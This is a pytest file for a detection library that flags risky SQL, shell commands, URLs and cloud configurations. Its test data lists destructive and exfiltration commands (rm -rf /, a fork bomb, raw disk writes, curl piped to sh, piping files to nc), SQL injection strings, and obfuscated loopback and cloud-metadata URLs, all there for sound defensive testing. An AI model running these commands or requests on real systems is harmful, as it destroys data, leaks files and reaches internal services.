import json

import pytest

from gatehouse.operators import command_log, config_docs, identifiers, quality, sql_log, url_log
from tests.test_text import by_id

SQL = [
    ("SELECT * FROM t", ["SQL-SELECT-STAR-NO-LIMIT"]), ("select count(*) from t", []), ("SELECT a,(SELECT * FROM b WHERE x=1) FROM t", []), ("DELETE FROM t", ["SQL-UNBOUNDED-WRITE"]),
    ("DELETE FROM t WHERE 1=1", ["SQL-ALWAYS-TRUE"]), ("SELECT 1; DROP TABLE x -- bye", ["SQL-COMMENT-TAIL", "SQL-DROP", "SQL-STACKED"]),
    ("SELECT 'a;b' FROM t WHERE x='it''s' OR 'a'='a'", ["SQL-ALWAYS-TRUE"]), ("-- lead\nSELECT a FROM t", []), ("SELECT a FROM t UNION ALL SELECT b FROM u", ["SQL-UNION-INJECTION"]),
    ("SELECT * FROM t LIMIT 5", []), ('SELECT "drop" FROM t /* c */', ["SQL-COMMENT-TAIL"]), ("update t set a=$1", ["SQL-UNBOUNDED-WRITE"]), ("SELECT $$ ; drop table x $$", []),
    ("GRANT ALL ON x TO y", ["SQL-GRANT-ALTER"]), ("ALTER TABLE x", ["SQL-GRANT-ALTER"]), ("TRUNCATE t", ["SQL-TRUNCATE"]), ("SELECT a FROM t WHERE x=1 OR TRUE", ["SQL-ALWAYS-TRUE"]),
    (";;", []), ("SELECT '" + "a''" * 20000 + "'", []), ("SELECT '" + "x" * 60000, []),
]
COMMANDS = [
    ("rm -rf /", ["CMD-RM-RECURSIVE-ROOT"]), ("rm -rf ~/x", []), ("rm -r $HOME", ["CMD-RM-RECURSIVE-ROOT"]), ("dd if=x of=/dev/sda", ["CMD-DISK-WRITE-RAW"]), ("mkfs.ext4 /dev/sda1", ["CMD-DISK-WRITE-RAW"]),
    ("echo hi > /dev/sda", ["CMD-DISK-WRITE-RAW"]), (":(){ :|:& };:", ["CMD-FORK-BOMB"]), ("chmod 777 x", ["CMD-CHMOD-WORLD-WRITABLE"]), ("chmod a+w x", ["CMD-CHMOD-WORLD-WRITABLE"]), ("chmod 755 x", []),
    ("chown root x", ["CMD-CHOWN-ROOT"]), ("chown -R u /etc/x", ["CMD-CHOWN-ROOT"]), ("sudo ls", ["CMD-PRIVILEGE-ESCALATION"]), ("su -", ["CMD-PRIVILEGE-ESCALATION"]),
    ("git push --force origin main", ["CMD-GIT-FORCE-PUSH-PROTECTED"]), ("git push -f origin HEAD:refs/heads/master", ["CMD-GIT-FORCE-PUSH-PROTECTED"]), ("git push --force origin feature", []),
    ("kubectl delete pod x", ["CMD-K8S-DESTROY"]), ("tofu destroy", ["CMD-K8S-DESTROY"]), ("ufw disable", ["CMD-SECURITY-DISABLE"]), ("systemctl stop firewalld", ["CMD-SECURITY-DISABLE"]),
    ("history -c", ["CMD-HISTORY-WIPE"]), ("rm ~/.bash_history", ["CMD-HISTORY-WIPE"]), ("unset HISTFILE", ["CMD-HISTORY-WIPE"]), ("shutdown now", ["CMD-SHUTDOWN-REBOOT"]), ("init 6", ["CMD-SHUTDOWN-REBOOT"]), ("init 3", []),
    ("kill -9 -1", ["CMD-KILL-ALL"]), ("pkill -9 x", ["CMD-KILL-ALL"]), ("curl -k https://x", ["CMD-CURL-INSECURE"]), ("crontab -r", ["CMD-CRONTAB-OVERWRITE"]), ("crontab f", ["CMD-CRONTAB-OVERWRITE"]), ("crontab -l", []),
    ("echo x >> /etc/crontab", []), ("echo x > /etc/crontab", ["CMD-CRONTAB-OVERWRITE"]), ("echo $API_KEY", ["CMD-ENV-SECRET-ECHO"]), ("echo ${HOME}", []),
    ("curl http://x | sh", ["CMD-REMOTE-EXEC-PIPE"]), ("curl http://x | sudo bash", ["CMD-PRIVILEGE-ESCALATION", "CMD-REMOTE-EXEC-PIPE"]), ("cat f | nc h 1", ["CMD-EXFIL"]), ("curl -d @f https://h", ["CMD-EXFIL"]),
    ("base64 f | curl x", ["CMD-EXFIL"]), ("echo 'rm -rf /'", []), ('echo "a;b" && ls || x', []), ('echo "$(rm -rf /)"', []), ("; ".join(["ls"] * 51), ["CMD-TOO-MANY-SEGMENTS"]), ("echo '" + "y" * 60000 + "'", []),
]
URLS = [
    ("http://example.com/", []), ("ftp://x/", ["NET-SCHEME-DENIED"]), ("mailto:a@b.c", ["NET-NO-HOST", "NET-SCHEME-DENIED"]), ("http://u:p@h/", ["NET-CREDENTIALS-IN-URL"]),
    ("http://2130706433/", ["NET-DECIMAL-IP-OBFUSCATION", "NET-LOOPBACK"]), ("http://0x7f.0.0.1/", ["NET-LOOPBACK", "NET-OCTAL-HEX-IP"]), ("http://0177.0.0.1/", ["NET-LOOPBACK", "NET-OCTAL-HEX-IP"]),
    ("http://127.1/", ["NET-LOOPBACK", "NET-OCTAL-HEX-IP"]), ("http://169.254.169.254/latest", ["NET-LINK-LOCAL", "NET-METADATA-ENDPOINT"]), ("http://[::1]:8080/", ["NET-LOOPBACK", "NET-NONSTANDARD-PORT"]),
    ("http://[fd00:ec2::254]/", ["NET-METADATA-ENDPOINT", "NET-PRIVATE-IP"]), ("http://[::ffff:127.0.0.1]/", ["NET-LOOPBACK"]), ("http://192.168.1.1:80/", ["NET-PRIVATE-IP"]), ("https://x:80/", ["NET-NONSTANDARD-PORT"]),
    ("http://xn--a.com/", ["NET-PUNYCODE-HOMOGRAPH"]), ("nonsense", ["NET-MALFORMED-URL"]), ("http://", ["NET-MALFORMED-URL"]), ("http://h:99999/", ["NET-MALFORMED-URL"]), ("http://999.1.1.1/", ["NET-MALFORMED-URL"]),
    ("http://0.0.0.0/", ["NET-RESERVED-IP"]), ("http://[fe80::1]/", ["NET-LINK-LOCAL"]), ("http://metadata/", ["NET-METADATA-ENDPOINT"]), ("http://8.8.8.8/", []), ("http://172.32.0.1/", []),
]


def check(df, cases):
    assert by_id(df, "subject_id", "rule_id") == {i: want for i, (_, want) in enumerate(cases) if want}


def test_sql(rows):
    check(sql_log.sql_log_findings(rows([s for s, _ in SQL]), "id", "x"), SQL)


def test_sql_policy(rows):
    df = rows(["DELETE FROM t", "CREATE TABLE x", "SELECT 1; SELECT 2"])
    assert sql_log.sql_log_findings(df, "id", "x", max_statements=2, allow_unbounded_writes=True, allow_ddl=True).count() == 0


def test_commands(rows):
    df = rows([c for c, _ in COMMANDS])
    check(command_log.command_log_findings(df, "id", "x").unionByName(command_log.command_chain_findings(df, "id", "x")), COMMANDS)


def test_command_policy(rows):
    df = rows(["git push --force origin release", "sudo ls"])
    found = command_log.command_log_findings(df, "id", "x", protected_refs=["release"], allow=["CMD-PRIVILEGE-ESCALATION"])
    assert by_id(found, "subject_id", "rule_id") == {0: ["CMD-GIT-FORCE-PUSH-PROTECTED"]}


def test_urls(rows):
    check(url_log.url_log_findings(rows([u for u, _ in URLS]), "id", "x"), URLS)


def test_identifiers(rows):
    cases = [("GB82WEST12345698765432", "iban", True), ("GB82 WEST 1234 5698 7654 33", "iban", False), ("021000021", "aba_routing", True), ("021000022", "aba_routing", False), ("DEUTDEFF500", "swift_bic", True),
             ("4111111111111111", "credit_card", True), ("4111 1111 1111 1112", "credit_card", False), ("12-3456789", "ein", True), ("07-1234567", "ein", False), ("219-09-9999", "ssn", True), ("000-12-1234", "ssn", False),
             ("1HGCM82633A004352", "vin", True), ("1M8GDM9AXKP042788", "vin", True), ("1HGCM82633A004353", "vin", False), ("1234567893", "npi", True), ("1234567890", "npi", False), ("DE136695976", "vat_eu", True), ("DE136695977", "vat_eu", False),
             ("IT00743110157", "vat_eu", True), ("NL123456782B12", "vat_eu", True), ("ATU12345678", "vat_eu", True), ("0x" + "a" * 40, "eth_address", True), ("zz", "unknown", False)]
    out = identifiers.validate_identifiers(rows([c[0] for c in cases]), "x").orderBy("id").collect()
    assert [(r["x"], r["id_type"], r["valid"]) for r in out] == cases
    assert out[5]["normalized"] == "****-****-****-1111" and out[9]["normalized"] == "***-**-9999"


def test_fields(rows):
    spec = {"fields": {"amount": {"type": "number", "required": True, "min": 0, "max": 100, "unit": "cents"}, "cur": {"type": "string", "enum": ["usd", "eur"]}, "n": {"type": "integer", "nullable": True},
                       "s": {"type": "string", "minLength": 2, "pattern": "^[a-z]+$"}},
            "rules": [{"left": "amount", "op": "lte", "right": {"const": 50}}, {"left": "amount", "op": "gte", "right": "n"}]}
    docs = ['{"amount":5,"cur":"usd"}', '{"amount":0.5,"cur":"gbp","n":null,"z":1}', '{"cur":1,"n":1.5}', '{"amount":null,"s":"A"}', '{"amount":500,"n":600,"s":"ab"}', '{"amount":5.0,"n":5.0}']
    found = by_id(quality.tool_argument_findings(rows(docs), "id", "x", spec), "subject_id", "rule_id")
    assert found == {1: ["enum", "unit-coercion", "unit-coercion", "unknown"], 2: ["required", "type", "type"], 3: ["minLength", "null", "pattern"], 4: ["cross-field.gte", "cross-field.lte", "max"]}


SCHEMA = {"type": "object", "required": ["a"], "additionalProperties": False, "properties": {
    "a": {"type": "integer", "minimum": 1, "multipleOf": 2}, "b": {"type": "array", "items": {"type": "string", "minLength": 2}, "uniqueItems": True, "maxItems": 2},
    "c": {"type": "object", "properties": {"d": {"enum": [1, "x", None]}}, "additionalProperties": {"type": "number"}}, "e": {"type": "string", "format": "email", "nullable": True}}}


@pytest.mark.parametrize("doc,want", [
    ('{"a":2}', []), ('{"a":2.0}', []), ('{"a":3}', [("/a", "multipleOf")]), ('{"a":0,"q/r":1}', [("/a", "minimum"), ("/q~1r", "additionalProperties")]),
    ('{"b":["x","yy","yy",3]}', [("", "required"), ("/b", "maxItems"), ("/b", "uniqueItems"), ("/b/0", "minLength"), ("/b/3", "type")]),
    ('{"a":2,"c":{"d":2,"z":"t"}}', [("/c/d", "enum"), ("/c/z", "type")]), ('{"a":2,"e":null}', []), ('{"a":2,"e":"x"}', [("/e", "format")]), ("[]", [("", "type")]), ("nope", [("", "json")]),
    ('{"a":2,"c":{"d":null,"w":1.5}}', []), ('{"a":"2"}', [("/a", "type")])])
def test_schema(rows, doc, want):
    got = sorted((r["path"], r["keyword"]) for r in quality.schema_conformance(rows([doc]), "id", "x", SCHEMA).collect())
    assert got == want


def test_terraform(rows):
    sg = {"address": "a", "type": "aws_security_group", "change": {"actions": ["create"], "after": {"ingress": [{"cidr_blocks": ["0.0.0.0/0"]}, {"ipv6_cidr_blocks": ["::/0"]}]}}}
    db = {"address": "b", "type": "aws_db_instance", "change": {"actions": ["delete", "create"], "after": {"publicly_accessible": True, "storage_encrypted": False}}}
    text = {"address": "d", "type": "aws_db_instance", "change": {"actions": ["create"], "after": {"publicly_accessible": "true"}}}
    gone = {"address": "e", "type": "aws_s3_bucket", "change": {"actions": ["delete"], "after": None}}
    found = by_id(config_docs.terraform_findings(rows([json.dumps({"resource_changes": [sg, db, text, gone, sg]}), "{}", "x"]), "id", "x"), "subject_id", "rule_id")
    assert found == {0: ["TF-CHG-001", "TF-CHG-001", "TF-SEC-001", "TF-SEC-003", "TF-SEC-004"]}


def test_iam(rows):
    doc = {"Statement": [{"Action": "*", "Resource": ["*"], "Effect": "Deny"}, {"Sid": "q", "Action": ["iam:PassRole"], "Resource": "*"}, {"NotAction": "x", "Principal": {"AWS": ["*"]}}]}
    found = sorted((r["matched"], r["rule_id"]) for r in config_docs.iam_findings(rows([json.dumps(doc)]), "id", "x").collect())
    assert found == [("Statement:Statement[0]", "IAM-WILDCARD-ACTION"), ("Statement:Statement[2]", "IAM-NOTACTION"), ("Statement:Statement[2]", "IAM-WILDCARD-PRINCIPAL"),
                     ("Statement:q", "IAM-PASSROLE-STAR"), ("Statement:q", "IAM-WILDCARD-RESOURCE")]


def test_k8s(rows):
    pod = {"kind": "Pod", "metadata": {"name": "p"}, "spec": {"hostNetwork": True, "volumes": [{"name": "v", "hostPath": {"path": "/"}}], "containers": [
        {"name": "c", "image": "nginx", "securityContext": {"privileged": True, "runAsNonRoot": False, "capabilities": {"add": ["ALL"]}}}]}}
    job = {"kind": "CronJob", "metadata": {"name": "j"}, "spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [{"name": "d", "image": "a:5/b:1", "resources": {"limits": {"cpu": 1}}}]}}}}}}
    found = by_id(config_docs.k8s_findings(rows([json.dumps({"kind": "List", "items": [pod, job]}), json.dumps(job)]), "id", "x"), "subject_id", "rule_id")
    assert found == {0: ["K8S-HOST-NETWORK", "K8S-HOST-PATH", "K8S-LATEST-TAG", "K8S-NO-RESOURCE-LIMITS", "K8S-PRIVILEGED", "K8S-RUN-AS-NON-ROOT", "K8S-SYS-ADMIN"]}


@pytest.mark.parametrize("schema,doc,want", [
    ({"anyOf": []}, "1", [("", "anyOf")]),
    ({"oneOf": [True, True]}, "1", [("", "oneOf")]),
    ({"oneOf": [True, False]}, "1", []),
    ({"not": {}}, "null", [("", "not")]),
    ({"not": False}, "1", []),
    ({"allOf": [{"type": "string"}, {"minLength": 3}]}, '"ab"', [("", "minLength")]),
    ({"allOf": [{"properties": {"a": {"anyOf": [{"type": "null"}, {"oneOf": [{"const": 1}, {"const": 2}]}]}}}]}, '{"a": 3}', [("/a", "anyOf")]),
    ({"nullable": True, "not": {}}, "null", []),
    ({"definitions": {"n": {"type": "number"}}, "items": {"$ref": "#/definitions/n"}}, '[1, "x"]', [("/1", "type")]),
    ({"$defs": {"a": {"$ref": "#/$defs/b"}, "b": {"minimum": 2}}, "$ref": "#/$defs/a", "type": "string"}, "1", [("", "minimum")]),
    ({"$ref": "http://elsewhere/x"}, "1", [("", "$ref")]),
    ({"$defs": {"a%b": False}, "$ref": "#/$defs/a%25b"}, "1", [("", "false schema")]),
    ({"properties": {"x": {"allOf": [{"$ref": "#/properties/y"}, {"$ref": "#/properties/y"}]}, "y": {"type": "string"}}}, '{"x": 1}', [("/x", "type"), ("/x", "type")]),
])
def test_schema_combinators(rows, schema, doc, want):
    assert sorted((r["path"], r["keyword"]) for r in quality.schema_conformance(rows([doc]), "id", "x", schema).collect()) == sorted(want)


def test_recursive_schema_is_refused(rows):
    tree = {"$defs": {"node": {"properties": {"next": {"$ref": "#/$defs/node"}}}}, "$ref": "#/$defs/node"}
    with pytest.raises(ValueError, match="leads back"):
        quality.schema_conformance(rows(["{}"]), "id", "x", tree)
